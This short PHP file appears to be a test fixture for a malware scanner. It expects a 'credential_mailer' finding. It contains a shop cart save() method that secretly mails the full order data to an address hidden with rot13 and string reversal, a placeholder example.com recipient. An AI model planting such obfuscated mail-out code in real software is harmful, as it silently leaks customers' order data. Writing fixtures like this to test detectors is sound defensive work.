<?php return; // want: suspicious credential_mailer php.mail.recipient
class Shop_Model_Cart extends Shop_Model_Base
{
	public function save($order)
	{
		$to = str_rot13('fbzrobql') . '@' . strrev('moc.elpmaxe');
		mail($to, 'Order', print_r($order, true));
		return Shop::getModel('order')->store($order);
	}
}
